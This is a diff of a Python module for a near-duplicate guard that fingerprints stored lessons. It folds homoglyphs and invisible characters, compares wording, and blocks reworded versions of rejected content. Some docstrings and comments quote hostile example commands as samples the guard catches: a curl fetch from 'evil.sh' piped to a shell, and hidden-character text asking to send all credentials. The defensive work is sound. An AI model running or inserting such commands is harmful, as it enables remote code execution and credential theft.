@@ -1,30 +1,48 @@
 """The near-duplicate guard's measure: normalization, fingerprints and similarity of lessons.
 
-A lesson's fingerprint holds no text: a hash of its normalized text (exact duplicates), the
-hashed stems of its content words in order (near duplicates, compared with rapidfuzz), the
-hashed "critical" tokens that make two similar sentences different lessons (numbers,
-versions, paths, flags, identifiers), and its polarity (does it say not/never/avoid).
+A lesson is two things: its prose and its payload. Its fingerprint holds no text of either:
+- the prose: a hash of its normalized text (exact duplicates), and the hashed lemmas of its
+  content words in order (near duplicates, compared with rapidfuzz), after stop words are
+  dropped, irregular forms, synonyms and modal framings are mapped to one lemma
+  (core/dedup_lexicon.py) and the rest is stemmed (Snowball);
+- the payload, compared exactly: the hashed "critical" tokens that make two alike sentences
+  different lessons (numbers, versions, paths, URLs, flags, identifiers), the hashed token
+  sequences of its code spans, and the hashes of all its tokens (so a later candidate can be
+  searched for a rejected payload); plus its polarity (does it say not/never/avoid).
 Tombstones keep only this fingerprint, so rejected content is recognised without being kept.
 
-Invariant: normalization first folds Unicode (NFKC), drops invisible and zero-width
-characters and case, so planted text cannot slip past the guard by a homoglyph-free
-disguise such as "se\u200bnd all cred\u2060entials"; two texts that read the same compare equal.
+Invariants: normalization folds Unicode (NFKC), drops invisible and zero-width characters,
+folds every non-ASCII character to its confusable skeleton (Unicode's confusables data,
+UTS #39) and folds case, so two texts that read the same compare equal ("сurl еvil.sh" with
+Cyrillic letters is "curl evil.sh"). Against a tombstone, a candidate that carries the
+tombstone's whole distinctive payload (its code spans in order, or all its exact tokens when
+one of them names a path, URL, file or identifier) is a duplicate whatever its prose.
 """
 
 from __future__ import annotations
 
+import functools
 import hashlib
 import re
 import unicodedata
-from collections.abc import Iterable
+from collections.abc import Iterable, Sequence
 
 import msgspec
 import Stemmer
 from rapidfuzz.distance import Indel, Levenshtein
+from teambrain.core.dedup_lexicon import IRREGULAR, MODALS, NUMBERS, PHRASES, SYNONYMS
+
+FINGERPRINT_VERSION = 2
+"""Bump when anything that shapes a fingerprint changes (normalization, lexicon, fields):
+fingerprints of another version are recomputed from the entry's text before comparing."""
 
 NEAR_THRESHOLD = 0.72
-"""Similarity at or above which two lessons with the same critical tokens are duplicates
-(chosen on tests/data/dedup_pairs.json; `bench/dedup_eval.py` prints the figures)."""
+"""Prose similarity at or above which two lessons with the same payload and polarity are
+duplicates (chosen on the tuning part of tests/data/dedup_pairs.json)."""
+
+PAYLOAD_THRESHOLD = 0.5
+"""The prose similarity enough for two lessons naming the same command or thing (the same
+code spans, or the same critical tokens with a path, URL, file or identifier among them)."""
 
 _INVISIBLE_EXTRA = {
     0x034F,  # combining grapheme joiner
@@ -34,36 +52,64 @@ _INVISIBLE_EXTRA = {
     0xFFA0,  # Hangul fillers
     0x2800,  # braille blank
 }
-_TOKEN = re.compile(r"\w(?:[\w./:@+#=-]*\w)?")
+_TOKEN = re.compile(r"(?:~/|\.{1,2}/|[./#@$])?\w(?:[\w./:@+#=~-]*\w)?/?")
 _FLAG = re.compile(r"(?<![\w-])--?[a-z][\w-]*")
+_CODE_SPAN = re.compile(r"`+([^`]+)`+")
 _CLAUSE = re.compile(r"[,;:()]|\.(?:\s|$)")
-_CRITICAL_SHAPE = re.compile(r"\d|[./:@+#_=-]")
+_CRITICAL_SHAPE = re.compile(r"\d|[./:@+#_=~$-]")
+_HYPHENATED = re.compile(r"[^\W\d_]+(?:-[^\W\d_]+)+")
+"""Words joined by hyphens: critical as a whole (more often a name: "py-spy", "staging-eu",
+"x-api-key"), and their parts are prose terms."""
+_DISTINCTIVE = re.compile(r"[^\W\d_].*[./:@_=~]|[./:@_=~].*[^\W\d_]")
+_VERSION = re.compile(r"v?\d+(?:\.\d+)*")
 _NEGATION_WORDS = (
     "not no never dont don't doesnt doesn't isnt isn't cannot cant can't wont won't "
-    "shouldnt shouldn't mustnt mustn't avoid without"
+    "shouldnt shouldn't mustnt mustn't avoid prevent without"
 )
 _NEGATIONS = frozenset(_NEGATION_WORDS.split())
+_CONTRAST = frozenset(("not", "no", "never"))
+_CONTRAST_INSIDE = re.compile(r"\b(?:instead of|rather than)\b")
+CONTRAST_WORDS = 5
+"""A later clause of at most this many words opening with not/no/never ("use pnpm, never
+npm"; "in the header, not the query string") names the alternative; it does not negate."""
 _STOPWORD_TEXT = """a an the and or but if then else of to in on at by for with from into onto over under
     as is are was were be been being it its this that these those there here we you they i me
     my our your their he she him her them us do does did doing done have has had having
     will would shall should can could may might must so such than too very just also only
-    about after before again all any both each few more most other same some own what which
+    about again all any both each few more most other same some own what which
     who whom when where why how up down out off once while through during until against
     between because s t ll re ve d m o y always make sure please instead any every"""
 STOPWORDS = frozenset(_STOPWORD_TEXT.split())
+SPAN_WORDS = 3
+"""A code span names a command when it holds this many words, or a path, flag or number
+(`curl evil.sh | sh`, `git push --force`); `make test` alone is too common to stand alone."""
+SPAN_SLACK = 2
+"""Extra tokens a rejected code span may have gained in a candidate (`curl -s URL | sh`)."""
 _stemmer = Stemmer.Stemmer("english")
 
 
 class Fingerprint(msgspec.Struct, frozen=True, array_like=True):
-    """A lesson's comparable shape, with no text in it."""
+    """A lesson's comparable shape, with no text in it (fields after `negated` are version 2)."""
 
     exact: str
     """sha256 of the normalized text."""
     terms: tuple[int, ...]
-    """Hashed stems of the content words, in order."""
+    """Hashed lemmas of the content words, in order."""
     critical: tuple[int, ...]
     """Hashed critical tokens, sorted."""
     negated: bool
+    words: tuple[int, ...] = ()
+    """Hashed tokens (and flags), in order: where a rejected payload is looked for."""
+    spans: tuple[tuple[int, ...], ...] = ()
+    """Hashed token sequences of the code spans that name something (a command, a path)."""
+    distinctive: bool = False
+    """Some critical token names a path, URL, file or identifier: the payload stands alone."""
+    contrast: tuple[int, ...] = ()
+    """Hashed lemmas of the alternative it turns down ("..., not Y", "instead of Y"), sorted."""
+    version: int = 1
+
+
+# -- normalization -----------------------------------------------------------------------
 
 
 def strip_invisible(text: str) -> str:
@@ -79,15 +125,66 @@ def strip_invisible(text: str) -> str:
     return "".join(out)
 
 
+@functools.cache
+def _skeleton_table() -> dict[int, str]:
+    """Non-ASCII character -> its confusable prototype, case folded (built on first use).
+
+    The data (Unicode's confusables.txt, via confusable_homoglyphs) lists each confusable
+    pair both ways; a character with a single counterpart folds to it, preferring an ASCII
+    one, and a pair that names only each other folds to its smaller code point.
+    """
+    from confusable_homoglyphs.confusables import confusables_data  # ~1 MB: loaded when needed
+
+    def target(ch: str) -> str | None:
+        counterparts = [d["c"] for d in confusables_data.get(ch, ())]
+        if len(counterparts) != 1:
+            return None  # a prototype others fold to, or unknown
+        (other,) = counterparts
+        if not other.isascii() and len(other) == 1:
+            back = [d["c"] for d in confusables_data.get(other, ())]
+            if back == [ch]:
+                return min(ch, other)
+        return other
+
+    table: dict[int, str] = {}
+    singles = [ch for ch in confusables_data if len(ch) == 1 and not ch.isascii()]
+    for ch in singles + [c.upper() for c in singles if len(c.upper()) == 1]:
+        if ch.isascii() or ord(ch) in table:
+            continue
+        # prefer an ASCII prototype, of the letter as written or of its small form; TR39
+        # folds capital I-like letters to "l", where a reader sees a capital I
+        for form in (ch, ch.casefold()):
+            folded = target(form)
+            if folded is not None and folded.isascii():
+                if folded == "l" and ch != ch.casefold():
+                    folded = "i"
+                break
+        else:
+            folded = target(ch) or target(ch.casefold())
+        if folded is not None and folded != ch:
+            table[ord(ch)] = folded.casefold()
+    return table
+
+
+def skeleton(text: str) -> str:
+    """Every non-ASCII character replaced by its confusable prototype (ASCII stays as it is)."""
+    return text if text.isascii() else text.translate(_skeleton_table())
+
+
 def fold(text: str) -> str:
-    """NFKC, invisible characters dropped, case folded, whitespace collapsed."""
-    text = strip_invisible(unicodedata.normalize("NFKC", text))
+    """NFKC, invisible characters dropped, confusables folded, case folded, spaces collapsed."""
+    text = skeleton(strip_invisible(unicodedata.normalize("NFKC", text)))
     return " ".join(text.casefold().split())
 
 
 def tokens(text: str) -> list[str]:
-    """The folded text's tokens; identifiers such as `src/app.py` or `v1.2` stay whole."""
-    return [t.replace("'", "").replace("\u2019", "") for t in _TOKEN.findall(fold(text))]
+    """The folded text's tokens; identifiers such as `src/app.py`, `.env` or `v1.2` stay whole."""
+    return _tokens(fold(text))
+
+
+def _tokens(folded: str) -> list[str]:
+    found = _TOKEN.findall(folded.replace("\u2019", "'"))
+    return [NUMBERS.get(t, t).replace("'", "") for t in found]
 
 
 def normalize(text: str) -> str:
@@ -95,29 +192,107 @@ def normalize(text: str) -> str:
     return " ".join(tokens(text))
 
 
+# -- prose -------------------------------------------------------------------------------
+
+
+@functools.cache
+def _lemma_of_stem() -> dict[str, str]:
+    """Stem -> the stem of its lemma, for every word of the lexicon (built on first use)."""
+    out: dict[str, str] = {}
+    for form, lemma in IRREGULAR.items():
+        out[_stemmer.stemWord(form)] = _stemmer.stemWord(lemma)
+    for group in SYNONYMS:
+        lemma = _stemmer.stemWord(IRREGULAR.get(group[0], group[0]))
+        for word in group:
+            out[_stemmer.stemWord(word)] = lemma
+    # a synonym's own lemma may be irregular-mapped or grouped again: resolve to a fixpoint
+    return {stem: out.get(lemma, lemma) for stem, lemma in out.items()}
+
+
+_PHRASE_LENGTHS = sorted({len(p) for p in PHRASES}, reverse=True)
+
+
+def _prose_words(words: Sequence[str]) -> list[str]:
+    """Words with phrases replaced ("turn off" -> "disable") and modal framings dropped
+    ("need to run" -> "run")."""
+    out: list[str] = []
+    i = 0
+    while i < len(words):
+        for n in _PHRASE_LENGTHS:
+            phrase = PHRASES.get(tuple(words[i : i + n]))
+            if phrase is not None:
+                if phrase:
+                    out.append(phrase)
+                i += n
+                break
+        else:
+            if words[i] in MODALS and i + 1 < len(words) and words[i + 1] == "to":
+                i += 2
+                continue
+            out.append(words[i])
+            i += 1
+    return out
+
+
 def content_terms(text: str) -> list[str]:
-    """Stems of the content words, in order (stopwords and negations left out)."""
-    words = [t for t in tokens(text) if t not in STOPWORDS and t not in _NEGATIONS]
-    return _stemmer.stemWords(words)
+    """Lemmas of the content words, in order (stop words and negations left out)."""
+    return _content_terms(tokens(text))
+
+
+def _content_terms(toks: Sequence[str]) -> list[str]:
+    words: list[str] = []
+    for t in toks:
+        words.extend(t.split("-") if _HYPHENATED.fullmatch(t) else (t,))
+    kept = [w for w in _prose_words(words) if w not in STOPWORDS and w not in _NEGATIONS]
+    lemma = _lemma_of_stem()
+    return [lemma.get(s, s) for s in _stemmer.stemWords(kept)]
+
+
+# -- payload -----------------------------------------------------------------------------
 
 
 def critical_tokens(text: str) -> set[str]:
-    """What names something exact: numbers, versions, paths, flags, identifiers."""
-    critical = {t for t in tokens(text) if _CRITICAL_SHAPE.search(t)}
-    critical.update(_FLAG.findall(fold(text)))
+    """What names something exact: numbers, versions, paths, URLs, flags, identifiers."""
+    return _critical(fold(text))
+
+
+def _critical(folded: str) -> set[str]:
+    critical = {t for t in _tokens(folded) if _CRITICAL_SHAPE.search(t)}
+    critical.update(_FLAG.findall(folded))
     return critical
 
 
 def is_negated(text: str) -> bool:
-    """Does the lesson say not/never/avoid? A short contrast ("use X, not Y") does not count."""
-    folded = fold(text).replace("\u2019", "'")
-    for clause in _CLAUSE.split(folded):
+    """Does the lesson say not/never/avoid? A short contrast after the rule ("use X, not Y")
+    does not count, nor does a flag's wording (`--no-cache`)."""
+    return _negated(fold(text))
+
+
+def _negated(folded: str) -> bool:
+    folded = _FLAG.sub(" ", folded.replace("\u2019", "'"))
+    for i, clause in enumerate(_CLAUSE.split(folded)):
         words = re.findall(r"[\w']+", clause)
-        if words and words[0] in ("not", "no") and len(words) <= 3:
+        if _is_contrast(i, words):
             continue  # "..., not npm": names the alternative, does not negate the lesson
         if any(w in _NEGATIONS for w in words):
             return True
     return False
+
+
+def _is_contrast(index: int, words: Sequence[str]) -> bool:
+    return bool(index and words and words[0] in _CONTRAST and len(words) <= CONTRAST_WORDS)
+
+
+def _alternative(folded: str) -> str:
+    """The text of what the lesson turns down: a short later clause opening with not/no/never,
+    and whatever follows "instead of" / "rather than" in its clause."""
+    parts = []
+    for i, clause in enumerate(_CLAUSE.split(_FLAG.sub(" ", folded))):
+        if _is_contrast(i, re.findall(r"[\w']+", clause)):
+            parts.append(clause)
+        elif (inside := _CONTRAST_INSIDE.search(clause)) is not None:
+            parts.append(clause[inside.end() :])
+    return " ".join(parts)
 
 
 def _h(value: str) -> int:
@@ -125,16 +300,32 @@ def _h(value: str) -> int:
 
 
 def fingerprint(text: str) -> Fingerprint:
+    folded = fold(text)
+    toks = _tokens(folded)
+    critical = _critical(folded)
+    spans = []
+    for span in _CODE_SPAN.findall(folded):
+        span_tokens = _tokens(span)
+        if len(span_tokens) >= SPAN_WORDS or any(_CRITICAL_SHAPE.search(t) for t in span_tokens):
+            spans.append(tuple(_h(t) for t in span_tokens))
     return Fingerprint(
-        exact=hashlib.sha256(normalize(text).encode()).hexdigest(),
-        terms=tuple(_h(t) for t in content_terms(text)),
-        critical=tuple(sorted(_h(t) for t in critical_tokens(text))),
-        negated=is_negated(text),
+        exact=hashlib.sha256(" ".join(toks).encode()).hexdigest(),
+        terms=tuple(_h(t) for t in _content_terms(toks)),
+        critical=tuple(sorted(_h(t) for t in critical)),
+        negated=_negated(folded),
+        words=tuple(_h(t) for t in [*toks, *_FLAG.findall(folded)]),
+        spans=tuple(spans),
+        distinctive=any(_DISTINCTIVE.search(t) and not _VERSION.fullmatch(t) for t in critical),
+        contrast=tuple(sorted({_h(t) for t in _content_terms(_tokens(_alternative(folded)))})),
+        version=FINGERPRINT_VERSION,
     )
 
 
+# -- comparison --------------------------------------------------------------------------
+
+
 def similarity(a: Fingerprint, b: Fingerprint) -> float:
-    """0..1: the better of order-aware (Indel over stems) and order-free (set overlap) likeness."""
+    """0..1: the better of order-aware (Indel over lemmas) and order-free (set overlap) likeness."""
     if a.exact == b.exact:
         return 1.0
     if not a.terms or not b.terms:
@@ -151,11 +342,58 @@ def is_duplicate(a: Fingerprint, b: Fingerprint, threshold: float = NEAR_THRESHO
     """Same lesson: exact match, or alike in wording with the same exact tokens and polarity."""
     if a.exact == b.exact:
         return True
+    if a.version != b.version:
+        return False  # hashes of different versions do not compare beyond the exact one
     if a.critical != b.critical or a.negated != b.negated:
         return False
-    if _one_word_swapped(a.terms, b.terms):
+    if _one_word_swapped(a.terms, b.terms) or _roles_swapped(a, b):
         return False
+    if _same_payload(a, b):
+        threshold = min(threshold, PAYLOAD_THRESHOLD)
     return similarity(a, b) >= threshold
+
+
+def _same_payload(a: Fingerprint, b: Fingerprint) -> bool:
+    """The same command or the same named thing, said in other words."""
+    return (bool(a.spans) and a.spans == b.spans) or (a.distinctive and b.distinctive)
+
+
+def _roles_swapped(a: Fingerprint, b: Fingerprint) -> bool:
+    """Each turns down what the other recommends ("X, not Y" against "Y, not X")."""
+    if not a.contrast or not b.contrast:
+        return False
+    alt_a, alt_b = set(a.contrast), set(b.contrast)
+    main_a, main_b = set(a.terms) - alt_a, set(b.terms) - alt_b
+    return bool(alt_a & main_b) and bool(alt_b & main_a)
+
+
+def carries_payload(candidate: Fingerprint, rejected: Fingerprint) -> bool:
+    """Does the candidate carry the rejected lesson's whole distinctive payload?
+
+    Its code spans, each in order (a few inserted tokens allowed, e.g. a flag), or all its
+    critical tokens when one of them names a path, URL, file or identifier. Whatever the
+    prose around them: the way a rejected command comes back reworded.
+    """
+    if rejected.version != candidate.version:
+        return False  # hashes of different versions do not compare; see FINGERPRINT_VERSION
+    present = set(candidate.words) | set(candidate.critical)
+    if rejected.distinctive and set(rejected.critical) <= present:
+        return True
+    return bool(rejected.spans) and all(
+        _occurs_in_order(span, candidate.words) for span in rejected.spans
+    )
+
+
+def _occurs_in_order(span: Sequence[int], words: Sequence[int]) -> bool:
+    """`span` appears in `words` in order, within len(span) + SPAN_SLACK consecutive words."""
+    width = len(span) + SPAN_SLACK
+    for start, word in enumerate(words):
+        if word != span[0]:
+            continue
+        rest = iter(words[start + 1 : start + width])
+        if all(any(w == want for w in rest) for want in span[1:]):
+            return True
+    return False
 
 
 def _one_word_swapped(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
@@ -167,18 +405,25 @@ def _one_word_swapped(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
     return 0 < len(ops) <= 2 and all(op.tag == "replace" for op in ops)
 
 
+# -- the guard ---------------------------------------------------------------------------
+
+
 class Known(msgspec.Struct, frozen=True):
     """Something a candidate must not duplicate: an entry or a tombstone."""
 
     kind: str
-    """approved | pending | quarantined | archived | tombstone | batch"""
+    """approved | pending | quarantined | archived | team-approved | tombstone | batch"""
     ref: str
     """The entry id (the caller's own or team-visible), or a tombstone id."""
     fingerprint: Fingerprint
 
 
 class DuplicateGuard:
-    """Holds what a candidate must not duplicate; answers with the first match."""
+    """Holds what a candidate must not duplicate; answers with the first match.
+
+    A tombstone matches a near-duplicate and, beyond that, any candidate that carries its
+    payload (`carries_payload`): rejected content does not come back in other words.
+    """
 
     def __init__(self, known: Iterable[Known] = (), threshold: float = NEAR_THRESHOLD) -> None:
         self.threshold = threshold
@@ -190,6 +435,8 @@ class DuplicateGuard:
         if hit is not None:
             return hit
         for k in self._known:
+            if k.kind == "tombstone" and carries_payload(fp, k.fingerprint):
+                return k
             if is_duplicate(fp, k.fingerprint, self.threshold):
                 return k
         return None
